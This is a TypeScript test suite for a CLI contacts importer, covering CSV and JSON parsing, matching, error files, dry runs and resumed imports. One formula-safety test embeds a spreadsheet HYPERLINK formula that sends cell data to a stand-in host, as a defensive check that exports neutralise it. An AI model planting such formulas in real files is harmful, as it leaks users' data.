// `deskline contacts import` against the real server: every column kind, CSV and JSON inputs,
// re-import, an interrupted import resumed, bad rows, dry runs and exit codes.
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { admin, api, newWorkspace } from "@deskline/test-kit";
import { beforeEach, describe, expect, it } from "vitest";
import { cli, scratch, spawnCli, writeScratch } from "./helpers.js";

let key: string;
let workspaceId: string;
let dir: string;

beforeEach(async () => {
  ({ key, workspaceId } = await newWorkspace());
  dir = scratch();
});

/** Every contact of the workspace, through the API (each answer checked against the spec). */
async function allContacts(): Promise<any[]> {
  const out: any[] = [];
  let cursor: string | undefined;
  for (;;) {
    const page = await api.get("/open/v1/contacts", {
      key,
      query: { limit: 100, ...(cursor ? { starting_after: cursor } : {}) },
    });
    expect(page.status).toBe(200);
    out.push(...page.body.data);
    if (!page.body.has_more) return out;
    cursor = page.body.data.at(-1).id;
  }
}

const byEmail = (contacts: any[], email: string) => contacts.find((c) => c.email === email);

async function importJson(args: string[], input?: string) {
  const result = await cli(["contacts", "import", ...args, "--json"], { key, input });
  const summary = result.stdout.trim() ? JSON.parse(result.stdout) : undefined;
  return { ...result, summary };
}

// A BOM, quotes with a comma and a doubled quote, a cell with a newline, every kind of column.
const CSV = [
  "\uFEFFname,email,phone,tags,segments,lifecycle_stage,do_not_contact,birthday,custom_fields.plan,custom_fields.note,external_ids.crm,address.city,address.country",
  'Ada Lovelace,ada@example.com,+44 20 7946 1234,vip;beta,emea|enterprise,customer,yes,1815-12-10,pro,"Likes ""engines"", math",crm-1,London,GB',
  'Grace Hopper,grace@example.com,,navy,,lead,no,,free,"line one',
  'line two",crm-2,,US',
  "Alan Turing,alan@example.com,,,,,,,,,,Manchester,",
].join("\r\n");

describe("CSV import: every column kind, once", () => {
  it("creates contacts from every column kind, and a second run changes nothing", async () => {
    const file = writeScratch(dir, "people.csv", CSV);
    const first = await importJson([file]);
    expect(first.stderr).toBe("");
    expect(first.code).toBe(0);
    expect(first.summary).toMatchObject({
      rows: 3,
      created: 3,
      updated: 0,
      unchanged: 0,
      failed: 0,
      dry_run: false,
    });

    const contacts = await allContacts();
    expect(contacts).toHaveLength(3);
    expect(byEmail(contacts, "ada@example.com")).toMatchObject({
      name: "Ada Lovelace",
      phone: "+44 20 7946 1234",
      tags: ["vip", "beta"],
      segments: ["emea", "enterprise"],
      lifecycle_stage: "customer",
      do_not_contact: true,
      birthday: "1815-12-10",
      custom_fields: { plan: "pro", note: 'Likes "engines", math' },
      external_ids: { crm: "crm-1" },
      address: { city: "London", country: "GB" },
    });
    const grace = byEmail(contacts, "grace@example.com");
    expect(grace).toMatchObject({
      do_not_contact: false,
      tags: ["navy"],
      custom_fields: { note: "line one\r\nline two" },
    });
    expect(grace.phone).toBeNull();

    const second = await importJson([file]);
    expect(second.code).toBe(0);
    expect(second.summary).toMatchObject({ rows: 3, created: 0, updated: 0, unchanged: 3, failed: 0 });
    const after = await allContacts();
    expect(after.map((c) => [c.id, c.updated_at])).toEqual(contacts.map((c) => [c.id, c.updated_at]));
  });
});

describe("CSV import: separators, column names, and repeated match keys", () => {
  it("reads ; separated files, renames columns with --map, and PATCHes only what differs", async () => {
    await importJson([writeScratch(dir, "first.csv", CSV)]);
    const before = byEmail(await allContacts(), "ada@example.com");
    const file = writeScratch(
      dir,
      "crm.csv",
      [
        "Full Name;E-Mail;Plan;Ignored",
        "Ada Lovelace;ADA@example.com;enterprise;x",
        "Alan Turing;alan@example.com;;y",
      ].join("\n"),
    );
    const result = await importJson([
      file,
      "--map",
      "Full Name=name",
      "--map",
      "E-Mail=email",
      "--map",
      "Plan=custom_fields.plan",
      "--map",
      "Ignored=",
    ]);
    expect(result.code).toBe(0);
    // Ada's email differs in case and her plan changed; Alan's row says nothing new.
    expect(result.summary).toMatchObject({ created: 0, updated: 1, unchanged: 1, failed: 0 });
    const ada = (await api.get(`/open/v1/contacts/${before.id}`, { key })).body;
    expect(ada.email).toBe("ADA@example.com");
    // The other custom field and every column the file does not name are left alone.
    expect(ada.custom_fields).toEqual({ plan: "enterprise", note: 'Likes "engines", math' });
    expect(ada.tags).toEqual(["vip", "beta"]);
  });

  it("names the rows that repeat an earlier row's match key: the last one wins, and the run says so", async () => {
    const file = writeScratch(
      dir,
      "twice.csv",
      ["name,email,tags", "Ada,ada@example.com,a", "Alan,alan@example.com,", "Ada L.,ADA@example.com,b"].join(
        "\n",
      ),
    );
    const result = await importJson([file]);
    expect(result.code).toBe(0);
    expect(result.summary).toMatchObject({ rows: 3, failed: 0, duplicate_keys: 1 });
    expect(result.stderr).toContain("warning: 1 rows repeat the email of an earlier row");
    expect(result.stderr).toContain("line 4: email ada@example.com, as line 2");
    expect(byEmail(await allContacts(), "ADA@example.com")).toMatchObject({ name: "Ada L.", tags: ["b"] });
    // A file without repeats says nothing of them.
    const clean = await importJson([writeScratch(dir, "once.csv", "name,email\nGrace,grace@example.com\n")]);
    expect(clean.stderr).toBe("");
    expect(clean.summary).toMatchObject({ duplicate_keys: 0 });
  });

  it("refuses unknown columns before sending anything (exit 2)", async () => {
    const result = await cli(["contacts", "import", writeScratch(dir, "x.csv", "name,Shoe size\nAda,7\n")], {
      key,
    });
    expect(result.code).toBe(2);
    expect(result.stderr).toContain("unknown column: 'Shoe size'");
    expect(result.stderr).toContain("--map");
    expect(await allContacts()).toHaveLength(0);
  });
});

describe("JSON Lines and JSON arrays", () => {
  const rows = [
    { name: "Ada", external_ids: { crm: "A-1" }, tags: "vip|beta", custom_fields: { seats: 5 } },
    { name: "Grace", "external_ids.crm": "A-2", "custom_fields.plan": "free", do_not_contact: "yes" },
    { Nom: "Alan", "external_ids.crm": "A-3", marketing_consent: true },
  ];

  it("imports JSON Lines matched on an external id; re-runs are unchanged, edits are updates", async () => {
    const file = writeScratch(dir, "people.jsonl", `${rows.map((row) => JSON.stringify(row)).join("\n")}\n`);
    const args = [file, "--match", "external_ids.crm", "--map", "Nom=name"];
    const first = await importJson(args);
    expect(first.code).toBe(0);
    expect(first.summary).toMatchObject({ created: 3, failed: 0 });
    const contacts = await allContacts();
    const grace = contacts.find((c) => c.name === "Grace");
    expect(grace).toMatchObject({
      external_ids: { crm: "A-2" },
      custom_fields: { plan: "free" },
      do_not_contact: true,
    });
    expect(contacts.find((c) => c.name === "Ada")).toMatchObject({
      tags: ["vip", "beta"],
      custom_fields: { seats: 5 },
    });
    expect(contacts.find((c) => c.name === "Alan")).toMatchObject({ marketing_consent: true });

    expect((await importJson(args)).summary).toMatchObject({ created: 0, updated: 0, unchanged: 3 });

    // Renamed in the CRM: the row's external id finds the contact, only the name changes.
    const edited = [{ ...rows[0], name: "Ada King" }, rows[1], rows[2]];
    writeScratch(dir, "people.jsonl", edited.map((row) => JSON.stringify(row)).join("\n"));
    expect((await importJson(args)).summary).toMatchObject({ created: 0, updated: 1, unchanged: 2 });
    const after = await allContacts();
    expect(after).toHaveLength(3);
    expect(after.find((c) => c.external_ids.crm === "A-1").name).toBe("Ada King");
  });

  it("reads a JSON array from stdin with -", async () => {
    const input = JSON.stringify([
      { name: "Ada", email: "ada@example.com" },
      { name: "Grace", email: "grace@example.com" },
    ]);
    const result = await importJson(["-"], input);
    expect(result.code).toBe(0);
    expect(result.summary).toMatchObject({ rows: 2, created: 2 });
    expect((await allContacts()).map((c) => c.email).sort()).toEqual([
      "ada@example.com",
      "grace@example.com",
    ]);
  });
});

describe("bad rows: --errors, and the exit code", () => {
  it("go to --errors with their line and reason, the good rows still go in, and the exit code is 1", async () => {
    const file = writeScratch(
      dir,
      "mixed.csv",
      [
        "name,email,do_not_contact,custom_fields.note",
        "Ada,ada@example.com,no,ok", // line 2
        'Grace,not-an-email,no,"two', // lines 3-4
        'lines"',
        ",nameless@example.com,no,", // line 5
        "Alan,alan@example.com,maybe,", // line 6
        "Too,many,cells,here,!", // line 7
        "Edsger,edsger@example.com,,", // line 8
      ].join("\n"),
    );
    const errorsFile = join(dir, "rejected.csv");
    const result = await importJson([file, "--errors", errorsFile]);
    expect(result.code).toBe(1);
    expect(result.summary).toMatchObject({ rows: 6, created: 2, failed: 4 });
    expect((await allContacts()).map((c) => c.name).sort()).toEqual(["Ada", "Edsger"]);

    const rejected = readFileSync(errorsFile, "utf8").trim().split("\n");
    expect(rejected[0]).toBe("line,reason,name,email,do_not_contact,custom_fields.note");
    const text = rejected.join("\n");
    expect(text).toMatch(/^3,"?email: must match format ""email""/m);
    expect(text).toContain('Grace,not-an-email,no,"two\nlines"');
    expect(text).toMatch(/^5,name: required/m);
    expect(text).toMatch(/^6,do_not_contact: must be boolean/m);
    expect(text).toMatch(/^7,has 5 fields where the header has 4/m);
  });
});

describe("bad rows: formula-safe --errors, and stderr without it", () => {
  it("--errors is formula-safe as an export is, and imports again to the same values", async () => {
    const evil = '=HYPERLINK("https://evil.invalid/?d="&A1,"fix me")';
    // `-12` is no phone number: a lenient workspace keeps it as given (docs/decisions.md, "Phones in E.164").
    await admin("PATCH", `/admin/v1/workspaces/${workspaceId}`, { phone_validation: "lenient" });
    const file = writeScratch(
      dir,
      "formulas.csv",
      [
        "name,email,phone,custom_fields.note",
        `"${evil.replaceAll('"', '""')}",not-an-email,+1 555 010 0100,@SUM(1+1)`, // line 2: refused (email)
        "'=quoted,bad,-12,'@x", // line 3: refused; its cells read as =quoted, -12 and @x
      ].join("\n"),
    );
    const errorsFile = join(dir, "rejected.csv");
    expect((await importJson([file, "--errors", errorsFile])).code).toBe(1);
    const rejected = readFileSync(errorsFile, "utf8");
    // No cell begins with what a spreadsheet runs.
    for (const line of rejected.trim().split("\n")) {
      for (const cell of line.split(",")) expect(cell.replace(/^"/, ""), line).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(rejected).toContain(`'${evil.replaceAll('"', '""')}`);
    expect(rejected).toContain("'+1 555 010 0100");
    expect(rejected).toContain("'@SUM(1+1)");
    expect(rejected).toMatch(/^3,.*,'=quoted,bad,'-12,'@x$/m);
    // Fixed (the emails) and imported again, the values are the ones first sent.
    const fixed = rejected
      .replace(/^line,reason,/, "")
      .replace(/^\d+,[^,]*(?:"[^"]*")?[^,]*,/gm, "")
      .replace("not-an-email", "evil@example.com")
      .replace(",bad,", ",quoted@example.com,");
    const again = writeScratch(dir, "fixed.csv", fixed);
    const second = await importJson([again]);
    expect(second.code, second.stderr).toBe(0);
    const contacts = await allContacts();
    expect(byEmail(contacts, "evil@example.com")).toMatchObject({
      name: evil,
      phone: "+1 555 010 0100",
      custom_fields: { note: "@SUM(1+1)" },
    });
    expect(byEmail(contacts, "quoted@example.com")).toMatchObject({
      name: "=quoted",
      phone: "-12",
      custom_fields: { note: "@x" },
    });
  });

  it("without --errors, print each on stderr; API refusals count as failed rows too", async () => {
    await api.post("/open/v1/contacts", {
      key,
      body: { name: "Holder", email: "taken@example.com", external_ids: { crm: "X" } },
    });
    const input = [
      JSON.stringify({ name: "Other", email: "new@example.com", external_ids: { crm: "X" } }),
      "{broken",
      JSON.stringify({ name: "Fine", email: "fine@example.com" }),
    ].join("\n");
    const result = await importJson(["-", "--format", "jsonl"], input);
    expect(result.code).toBe(1);
    expect(result.summary).toMatchObject({ created: 1, failed: 2 });
    expect(result.stderr).toMatch(/^line 1: .*external_ids crm.*\(request req_/m);
    expect(result.stderr).toMatch(/^line 2: not valid JSON/m);
  });
});

describe("--dry-run", () => {
  it("validates and classifies every row without writing anything", async () => {
    await api.post("/open/v1/contacts", { key, body: { name: "Ada Lovelace", email: "ada@example.com" } });
    await api.post("/open/v1/contacts", { key, body: { name: "Alan", email: "alan@example.com" } });
    const before = await allContacts();
    const file = writeScratch(
      dir,
      "dry.csv",
      "name,email\nAda Lovelace,ada@example.com\nAlan Turing,alan@example.com\nGrace,grace@example.com\nBad,nope\n",
    );
    const result = await importJson([file, "--dry-run"]);
    expect(result.code).toBe(1);
    expect(result.summary).toMatchObject({ dry_run: true, created: 1, updated: 1, unchanged: 1, failed: 1 });
    expect(await allContacts()).toEqual(before);
  });
});

describe("an interrupted import", () => {
  it("started again creates no duplicates, with or without emails", async () => {
    const lines = ["name,email,external_ids.crm"];
    for (let i = 0; i < 300; i++) {
      // A third have an email, a third only an external id, a third neither.
      const email = i % 3 === 0 ? `p${i}@example.com` : "";
      const crm = i % 3 === 1 ? `crm-${i}` : "";
      lines.push(`Person ${i},${email},${crm}`);
    }
    const file = writeScratch(dir, "big.csv", lines.join("\n"));
    const { child, result } = spawnCli(["contacts", "import", file, "--concurrency", "4"], { key });
    // Kill it (no chance to clean up) once part of the file is in.
    for (;;) {
      const page = await api.get("/open/v1/contacts", { key, query: { limit: 100 } });
      if (page.body.data.length >= 60) break;
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
    child.kill("SIGKILL");
    await result;
    const partial = (await allContacts()).length;
    expect(partial).toBeLessThan(300);

    const resumed = await importJson([file]);
    expect(resumed.code).toBe(0);
    expect(resumed.summary.created + resumed.summary.unchanged).toBe(300);
    expect(resumed.summary.unchanged).toBeGreaterThanOrEqual(partial);
    const contacts = await allContacts();
    expect(contacts).toHaveLength(300);
    expect(new Set(contacts.map((c) => c.name)).size).toBe(300);
  });
});

// The executable's exit status itself.
describe("exit codes", () => {
  it("a missing API key is a usage error (2) saying how to set one", async () => {
    const result = await cli(["contacts", "import", writeScratch(dir, "a.csv", "name\nAda\n")], {
      process: true,
    });
    expect(result.code).toBe(2);
    expect(result.stderr).toContain("deskline config set api-key");
    expect(result.stderr).toContain("DESKLINE_API_KEY");
  });

  it("a wrong API key stops the import with the API's error (1), not one failure per row", async () => {
    const result = await cli(["contacts", "import", writeScratch(dir, "a.csv", "name\nAda\nGrace\n")], {
      key: "dk_not_a_real_key_at_all_000000000000000000",
      process: true,
    });
    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(/code invalid_api_key, request id req_/);
  });
});
